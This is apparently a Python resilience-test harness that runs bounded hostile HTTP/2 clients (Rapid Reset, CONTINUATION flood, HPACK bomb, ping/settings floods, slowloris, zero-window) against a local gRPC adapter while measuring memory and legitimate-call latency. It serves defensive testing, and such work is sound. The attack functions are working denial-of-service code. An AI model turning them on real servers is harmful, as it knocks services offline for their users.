#!/usr/bin/python3
"""Hostile HTTP/2 clients against osm-adapter, beside a legitimate one.

Each attack speaks raw HTTP/2 frames (python3-h2's hyperframe and hpack), is
bounded in count and in time, and runs while a legitimate gRPC client calls
Withdraw 50 times a second on a connection of its own. The run reports the
adapter's idle and peak RSS, whether the server closed the attacking
connections, and the legitimate calls' failures and worst latency.

  h2_attacks.py run --attack NAME --adapter BINARY [--front HAPROXY_CFG]
                    [--check] [--abusive] [-- ADAPTER_FLAGS...]
      Starts the demo upstream (nginx), the adapter (port 0) and, with
      --front, HAProxy with that configuration in front of it; runs one
      attack against the adapter or the front; prints one JSON line. With
      --check it exits 1 unless: peak RSS <= idle + 64 MiB (the adapter's,
      and the proxy's with --front), no legitimate call failed, the worst
      legitimate latency is under 250 ms, and, with --abusive, every
      attacking connection was closed by the server.
  h2_attacks.py list
      The attacks' names.

Debian packages: python3-h2 (hyperframe, hpack), python3-grpcio, haproxy, and
nginx for the demo stand-in of OSM (scripts/demo-upstream.sh), the upstream.
"""
import argparse
import json
import os
import re
import resource
import select
import shutil
import signal
import socket
import struct
import subprocess
import sys
import threading
import time
import tempfile

from hpack import Encoder, NeverIndexedHeaderTuple
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame,
                              PingFrame, RstStreamFrame, SettingsFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
METHOD = "/huaweicloud.osm.v2.MessageService/Withdraw"
REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
MIB = 1024 * 1024

# Bounds asserted with --check.
MAX_RSS_GROWTH = 64 * MIB
MAX_LEGIT_LATENCY_S = 0.250


def withdraw_request(case_id=b"c1", message_id=b"m1"):
    """A serialized WithdrawRequest (fields 1 and 2), without a stub."""
    return (b"\x0a" + bytes([len(case_id)]) + case_id +
            b"\x12" + bytes([len(message_id)]) + message_id)


def grpc_frame(message):
    return b"\x00" + struct.pack(">I", len(message)) + message


def request_headers(authority):
    return [(":method", "POST"), (":scheme", "http"), (":path", METHOD),
            (":authority", authority), ("content-type", "application/grpc"),
            ("te", "trailers"), ("x-auth-token", "attack-token")]


# ---- A raw HTTP/2 connection ---------------------------------------------------

class Connection:
    """One TCP connection that writes frames as given and, in a thread of
    its own, reads what the server sends: it answers SETTINGS with an ACK
    (unless told not to) and notes GOAWAY, EOF and resets. `closed` tells
    whether the server ended the connection."""

    def __init__(self, address, settings=None, read=True, ack_settings=True, preface=True,
                 connect_timeout=10):
        self.sock = socket.create_connection(address, timeout=connect_timeout)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.authority = "%s:%d" % address
        self.encoder = Encoder()
        self.ack_settings = ack_settings
        self.goaway = None
        self.server_settings = {}
        self.settings_seen = threading.Event()
        self.closed = threading.Event()
        self.write_lock = threading.Lock()
        if preface:
            self.send(PREFACE + SettingsFrame(0, settings=settings or {}).serialize())
        if read:
            threading.Thread(target=self._read, daemon=True).start()

    def send(self, data):
        """Writes data; False once the server has closed the connection."""
        if self.closed.is_set():
            return False
        try:
            with self.write_lock:
                self.sock.sendall(data)
            return True
        except socket.timeout:
            return False  # the server stopped reading: stalled, not closed
        except OSError:
            self.closed.set()
            return False

    def _read(self):
        buffer = b""
        try:
            while True:
                try:
                    chunk = self.sock.recv(65536)
                except socket.timeout:
                    continue  # silence is not a close
                if not chunk:
                    break
                buffer += chunk
                while len(buffer) >= 9:
                    frame, length = Frame.parse_frame_header(memoryview(buffer[:9]))
                    if len(buffer) < 9 + length:
                        break
                    body, buffer = buffer[9:9 + length], buffer[9 + length:]
                    if isinstance(frame, SettingsFrame):
                        frame.parse_body(memoryview(body))
                        if "ACK" not in frame.flags:
                            self.server_settings.update(frame.settings)
                            self.settings_seen.set()
                            if self.ack_settings:
                                self.send(SettingsFrame(0, flags=["ACK"]).serialize())
                    elif isinstance(frame, GoAwayFrame):
                        frame.parse_body(memoryview(body))
                        self.goaway = (frame.error_code, bytes(frame.additional_data)[:80])
        except OSError:
            pass
        self.closed.set()

    def headers(self, stream_id, headers, end_stream=False, end_headers=True):
        flags = (["END_HEADERS"] if end_headers else []) + (["END_STREAM"] if end_stream else [])
        return HeadersFrame(stream_id, data=self.encoder.encode(headers), flags=flags).serialize()

    def max_streams(self, wanted):
        """`wanted`, or fewer if the server allows fewer streams at once."""
        self.settings_seen.wait(5)
        return min(wanted, self.server_settings.get(SettingsFrame.MAX_CONCURRENT_STREAMS, wanted))

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def on_each_at_once(attack, connections):
    """Runs attack(connection) for every connection, each in a thread."""
    threads = [threading.Thread(target=attack, args=(c,)) for c in connections]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def wait_closed(connections, seconds):
    """Waits up to `seconds` for the server to close every connection."""
    deadline = time.monotonic() + seconds
    for connection in connections:
        connection.closed.wait(max(0.0, deadline - time.monotonic()))
    return sum(c.closed.is_set() for c in connections)


def outcome(connections, sent, started, **extra):
    closed = wait_closed(connections, 3)
    goaways = sorted({str(c.goaway) for c in connections if c.goaway})
    for connection in connections:
        connection.close()
    result = {"connections": len(connections), "closed_by_server": closed,
              "sent_bytes": sent, "attack_seconds": round(time.monotonic() - started, 2)}
    if goaways:
        result["goaway"] = goaways[:3]
    result.update(extra)
    return result


# ---- The attacks ------------------------------------------------------------------
# Each takes the target address and a time limit, and returns a dict.

def hpack_int(value, prefix_bits, first_byte):
    """An HPACK integer (RFC 7541, 5.1) with its prefix in first_byte."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte | value])
    out = bytearray([first_byte | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def continuation_flood(address, seconds, total=64 * MIB):
    """One HEADERS frame, then 64 MiB of CONTINUATION frames that never end
    the header block (CVE-2023-33953): the block's last field, a literal,
    announces a 60 MB value, which arrives 16 KiB per frame."""
    started = time.monotonic()
    connection = Connection(address)
    block = (connection.encoder.encode(request_headers(connection.authority)) +
             b"\x00\x05x-big" + hpack_int(60_000_000, 7, 0))
    sent = 0
    if connection.send(HeadersFrame(1, data=block).serialize()):
        batch = ContinuationFrame(1, data=b"a" * 16384).serialize() * 16
        while sent < total and time.monotonic() - started < seconds:
            if not connection.send(batch):
                break
            sent += len(batch)
    return outcome([connection], sent, started, header_block_bytes=sent)


def rapid_reset(address, seconds, connections=4, requests=20000):
    """Complete requests, each cancelled at once with RST_STREAM
    (CVE-2023-44487): 4 connections x 20,000."""
    started = time.monotonic()
    conns = [Connection(address) for _ in range(connections)]
    body = grpc_frame(withdraw_request())
    sent = done = 0

    def attack(connection):
        nonlocal sent, done
        stream_id = 1
        for _ in range(requests // 100):
            batch = bytearray()
            for _ in range(100):
                batch += connection.headers(stream_id, request_headers(connection.authority))
                batch += DataFrame(stream_id, data=body, flags=["END_STREAM"]).serialize()
                batch += RstStreamFrame(stream_id, error_code=8).serialize()
                stream_id += 2
            if time.monotonic() - started > seconds or not connection.send(bytes(batch)):
                return
            sent += len(batch)
            done += 100

    on_each_at_once(attack, conns)
    return outcome(conns, sent, started, requests=done)


def frame_flood(address, seconds, frames, total, name):
    """Sends `frames` (a batch of 1,000 frames) until `total` frames went
    out, the time is up or the server closed the connection."""
    started = time.monotonic()
    connection = Connection(address)
    sent = count = 0
    while count < total and time.monotonic() - started < seconds:
        if not connection.send(frames):
            break
        sent += len(frames)
        count += 1000
    return outcome([connection], sent, started, **{name: count})


def ping_flood(address, seconds):
    """200,000 PING frames, as fast as the connection takes them."""
    pings = b"".join(PingFrame(0, opaque_data=struct.pack(">Q", i)).serialize()
                     for i in range(1000))
    return frame_flood(address, seconds, pings, 200000, "pings")


def settings_flood(address, seconds):
    """200,000 SETTINGS frames, each of which the server must acknowledge."""
    settings = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535}).serialize()
    return frame_flood(address, seconds, settings * 1000, 200000, "settings")


def zero_window(address, seconds, connections=4, streams=1000):
    """Clients whose receive window is 0 and never grows: valid calls whose
    answers the server can never send, as many as each connection allows."""
    started = time.monotonic()
    conns = [Connection(address, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
             for _ in range(connections)]
    body = grpc_frame(withdraw_request())
    sent = opened = 0
    for connection in conns:
        batch = bytearray()
        for i in range(connection.max_streams(streams)):
            stream_id = 1 + 2 * i
            batch += connection.headers(stream_id, request_headers(connection.authority))
            batch += DataFrame(stream_id, data=body, flags=["END_STREAM"]).serialize()
        if connection.send(bytes(batch)):
            sent += len(batch)
            opened += connection.max_streams(streams)
    # Hold the calls open for the rest of the time.
    time.sleep(max(0.0, seconds - (time.monotonic() - started)))
    return outcome(conns, sent, started, streams=opened)


def slow_headers(address, seconds, connections=200):
    """HEADERS without END_HEADERS, held open: each connection starts a
    header block and never finishes it (slowloris). HTTP/2 allows one open
    header block per connection."""
    started = time.monotonic()
    conns = []
    sent = 0
    for _ in range(connections):
        connection = Connection(address)
        conns.append(connection)
        # Only the first stream's block can be open at a time in HTTP/2.
        frame = HeadersFrame(1, data=connection.encoder.encode(
            request_headers(connection.authority)[:4])).serialize()
        if connection.send(frame):
            sent += len(frame)
    time.sleep(max(0.0, seconds - (time.monotonic() - started)))
    return outcome(conns, sent, started)


def hpack_bomb(address, seconds, connections=10, requests=200, references=4000):
    """HPACK dynamic-table abuse: one 4,000-byte header is put in the
    server's table, then each request refers to it 4,000 times with one byte
    each: 4 KB on the wire, 16 MB of headers once decoded."""
    started = time.monotonic()
    conns = [Connection(address) for _ in range(connections)]
    sent = done = 0
    for connection in conns:
        value = b"v" * 4000
        insert = b"\x40\x05x-big" + hpack_int(len(value), 7, 0) + value
        # Literals never indexed, so that the big header stays entry 62.
        base = connection.encoder.encode(
            [NeverIndexedHeaderTuple(*h) for h in request_headers(connection.authority)])
        stream_id = 1
        for i in range(requests):
            block = base + (insert if i == 0 else b"") + b"\xbe" * references
            frame = HeadersFrame(stream_id, data=block, flags=["END_HEADERS"]).serialize()
            if time.monotonic() - started > seconds or not connection.send(frame):
                break
            sent += len(frame)
            done += 1
            stream_id += 2
    return outcome(conns, sent, started, requests=done)


def tiny_data(address, seconds, connections=4, streams=100):
    """Requests whose body arrives in 1-byte DATA frames, round robin over
    many streams: each call announces a 60,000-byte message and sends it one
    byte per frame."""
    started = time.monotonic()
    conns = [Connection(address) for _ in range(connections)]
    sent = frames = 0
    prefix = b"\x00" + struct.pack(">I", 60000)

    def attack(connection):
        nonlocal sent, frames
        count = connection.max_streams(streams)
        batch = bytearray()
        for i in range(count):
            stream_id = 1 + 2 * i
            batch += connection.headers(stream_id, request_headers(connection.authority))
            for byte in prefix:
                batch += DataFrame(stream_id, data=bytes([byte])).serialize()
        if not connection.send(bytes(batch)):
            return
        one_round = b"".join(DataFrame(1 + 2 * i, data=b"x").serialize() for i in range(count))
        chunk = one_round * 20
        while time.monotonic() - started < seconds:
            if not connection.send(chunk):
                return
            sent += len(chunk)
            frames += 20 * count

    on_each_at_once(attack, conns)
    return outcome(conns, sent, started, data_frames=frames)


def idle_connections(address, seconds, connections=3000):
    """3,000 connections that do nothing: half send the preface and
    SETTINGS, half not even that."""
    started = time.monotonic()
    conns = []
    for i in range(connections):
        if time.monotonic() - started > seconds:
            break
        try:
            conns.append(Connection(address, read=False, preface=i % 2 == 0, connect_timeout=2))
        except OSError:
            break
    opened = len(conns)
    time.sleep(max(0.0, seconds - (time.monotonic() - started)))
    # Nothing reads these: a connection counts as closed if a read sees EOF.
    for connection in conns:
        connection.sock.setblocking(False)
        try:
            while True:
                data = connection.sock.recv(65536)
                if not data:
                    connection.closed.set()
                    break
        except BlockingIOError:
            pass
        except OSError:
            connection.closed.set()
    closed = sum(c.closed.is_set() for c in conns)
    for connection in conns:
        connection.close()
    return {"connections": opened, "closed_by_server": closed, "sent_bytes": 0,
            "attack_seconds": round(time.monotonic() - started, 2)}


ATTACKS = {
    "continuation_flood": continuation_flood,
    "rapid_reset": rapid_reset,
    "ping_flood": ping_flood,
    "settings_flood": settings_flood,
    "zero_window": zero_window,
    "slow_headers": slow_headers,
    "hpack_bomb": hpack_bomb,
    "tiny_data": tiny_data,
    "idle_connections": idle_connections,
}


# ---- The legitimate client, the upstream, the processes ---------------------------

def legit_client(target, seconds, interval):
    """Calls Withdraw every `interval` seconds for `seconds` (or until
    SIGTERM) and prints one JSON line: calls, failures by code, worst
    latency. Prints "ready" after its first successful call."""
    import grpc  # python3-grpcio; imported here so that `run` does not need it
    stop = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: stop.set())
    channel = grpc.insecure_channel(target)
    call = channel.unary_unary(METHOD)
    calls, failures, worst, ready = 0, {}, 0.0, False
    deadline = time.monotonic() + seconds
    next_call = time.monotonic()
    while not stop.is_set() and time.monotonic() < deadline:
        begin = time.monotonic()
        try:
            call(withdraw_request(), timeout=5, metadata=[("x-auth-token", "legit-token")])
            if not ready:
                print("ready", flush=True)
                ready = True
        except grpc.RpcError as error:
            if ready:
                code = error.code().name
                failures[code] = failures.get(code, 0) + 1
        if ready:
            calls += 1
            worst = max(worst, time.monotonic() - begin)
        next_call += interval
        stop.wait(max(0.0, next_call - time.monotonic()))
    print(json.dumps({"calls": calls, "failures": failures, "worst_ms": round(worst * 1000, 1)}),
          flush=True)


def rss_bytes(pid, field="VmRSS"):
    with open(f"/proc/{pid}/status") as status:
        for line in status:
            if line.startswith(field + ":"):
                return int(line.split()[1]) * 1024
    return 0


class Sampler(threading.Thread):
    """Keeps the highest VmRSS of some processes, every 20 ms."""

    def __init__(self, pids):
        super().__init__(daemon=True)
        self.pids = pids
        self.peaks = {pid: 0 for pid in pids}
        self.done = threading.Event()

    def run(self):
        while not self.done.wait(0.02):
            for pid in self.pids:
                try:
                    self.peaks[pid] = max(self.peaks[pid], rss_bytes(pid))
                except OSError:
                    pass


def free_port():
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def await_port(port, process, seconds=10):
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if process.poll() is not None:
            raise SystemExit(f"exited before listening on {port}: {process.returncode}")
        try:
            socket.create_connection(("127.0.0.1", port), timeout=1).close()
            return
        except OSError:
            time.sleep(0.05)
    raise SystemExit(f"nothing listens on {port} after {seconds} s")


def run(args):
    # SIGTERM (a test's time-out) unwinds through the finally below, which
    # stops every process this run started.
    signal.signal(signal.SIGTERM, lambda *_: sys.exit("terminated"))
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    processes = []
    nginx_pid = 0

    def start(command, **kwargs):
        process = subprocess.Popen(command, **kwargs)
        processes.append(process)
        return process

    try:
        # The demo stand-in for OSM (nginx): fast, so that what the
        # legitimate calls feel is the adapter, not the upstream.
        upstream_port = free_port()
        upstream_dir = tempfile.mkdtemp(prefix="osm-attacks-")
        # (nginx keeps stderr: only stdout, which it closes, is read.)
        nginx_pid = int(subprocess.run(
            [f"{REPO}/scripts/demo-upstream.sh", str(upstream_port), upstream_dir],
            check=True, stdout=subprocess.PIPE, text=True).stdout)
        adapter = start([args.adapter, "--listen=127.0.0.1:0",
                         f"--upstream=http://127.0.0.1:{upstream_port}", "--metrics_listen=",
                         "--access_log=off"] + args.adapter_flags,
                        stderr=subprocess.PIPE, text=True)
        line = adapter.stderr.readline()
        match = re.search(r'"address":"127\.0\.0\.1:(\d+)"', line)
        if not match:
            raise SystemExit(f"the adapter did not start: {line}{adapter.stderr.read()}")
        adapter_port = int(match.group(1))
        threading.Thread(target=adapter.stderr.read, daemon=True).start()
        pids = {"adapter": adapter.pid}
        target_port = adapter_port
        if args.front:
            target_port = free_port()
            env = dict(os.environ, OSM_FRONT_BIND=f"127.0.0.1:{target_port}",
                       OSM_ADAPTER_ADDRESS=f"127.0.0.1:{adapter_port}")
            proxy = start(["haproxy", "-db", "-f", args.front], env=env,
                          stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
            await_port(target_port, proxy)
            threading.Thread(target=proxy.stderr.read, daemon=True).start()
            pids["proxy"] = proxy.pid
        target = f"127.0.0.1:{target_port}"

        legit = start([sys.executable, __file__, "legit", "--target", target,
                       "--seconds", str(args.seconds + 30)], stdout=subprocess.PIPE, text=True)
        if legit.stdout.readline().strip() != "ready":
            raise SystemExit("the legitimate client never got an answer")
        time.sleep(1)  # warm: connections, threads and caches in use
        idle = {name: rss_bytes(pid) for name, pid in pids.items()}
        sampler = Sampler(list(pids.values()))
        sampler.start()
        result = ATTACKS[args.attack](("127.0.0.1", target_port), args.seconds)
        time.sleep(1)  # the legitimate client goes on after the attack
        legit.send_signal(signal.SIGTERM)
        try:
            legit_result = json.loads(legit.communicate(timeout=20)[0].strip() or "{}")
        except subprocess.TimeoutExpired:
            legit_result = {"hung": True}
        sampler.done.set()
        sampler.join()
        peaks = {name: max(sampler.peaks[pid], rss_bytes(pid, "VmHWM") if name == "adapter" else 0)
                 for name, pid in pids.items()}
        alive = {name: processes_alive(pid) for name, pid in pids.items()}
    finally:
        if nginx_pid:
            os.kill(nginx_pid, signal.SIGTERM)
            deadline = time.monotonic() + 10
            while processes_alive(nginx_pid) and time.monotonic() < deadline:
                time.sleep(0.05)  # nginx is a daemon, not our child: poll for its end
            shutil.rmtree(upstream_dir, ignore_errors=True)
        for process in reversed(processes):
            if process.poll() is None:
                process.terminate()
        for process in processes:
            try:
                process.wait(10)
            except subprocess.TimeoutExpired:
                process.kill()

    report = {"attack": args.attack, "through": "haproxy" if args.front else "direct",
              "flags": args.adapter_flags,
              "idle_mib": {k: round(v / MIB, 1) for k, v in idle.items()},
              "peak_mib": {k: round(v / MIB, 1) for k, v in peaks.items()},
              **result, "legit": legit_result, "alive": alive}
    problems = []
    for name in pids:
        if peaks[name] - idle[name] > MAX_RSS_GROWTH:
            problems.append(f"{name} RSS grew by {(peaks[name] - idle[name]) / MIB:.0f} MiB")
        if not alive[name]:
            problems.append(f"{name} died")
    if legit_result.get("hung"):
        problems.append("the legitimate client hung")
    if legit_result.get("failures"):
        problems.append(f"legitimate calls failed: {legit_result['failures']}")
    if not legit_result.get("calls"):
        problems.append("no legitimate call was made")
    if legit_result.get("worst_ms", 1e9) >= MAX_LEGIT_LATENCY_S * 1000:
        problems.append(f"worst legitimate latency {legit_result.get('worst_ms')} ms")
    if args.abusive and result["closed_by_server"] < result["connections"]:
        problems.append(f"{result['connections'] - result['closed_by_server']} attacking "
                        "connections were not closed")
    report["problems"] = problems
    print(json.dumps(report), flush=True)
    return 1 if args.check and problems else 0


def processes_alive(pid):
    try:
        with open(f"/proc/{pid}/stat") as stat:
            return stat.read().split(") ")[1][0] not in "ZX"
    except OSError:
        return False


def main():
    parser = argparse.ArgumentParser(description=__doc__,
                                     formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = parser.add_subparsers(dest="command", required=True)
    run_parser = sub.add_parser("run")
    run_parser.add_argument("--attack", required=True, choices=sorted(ATTACKS))
    run_parser.add_argument("--adapter", required=True)
    run_parser.add_argument("--front", help="an HAProxy configuration to put in front")
    run_parser.add_argument("--seconds", type=float, default=8)
    run_parser.add_argument("--check", action="store_true")
    run_parser.add_argument("--abusive", action="store_true")
    run_parser.add_argument("adapter_flags", nargs="*")
    legit_parser = sub.add_parser("legit")
    legit_parser.add_argument("--target", required=True)
    legit_parser.add_argument("--seconds", type=float, required=True)
    legit_parser.add_argument("--interval", type=float, default=0.02)
    sub.add_parser("list")
    args = parser.parse_args()
    if args.command == "run":
        sys.exit(run(args))
    if args.command == "legit":
        legit_client(args.target, args.seconds, args.interval)
    else:
        print("\n".join(sorted(ATTACKS)))


if __name__ == "__main__":
    main()
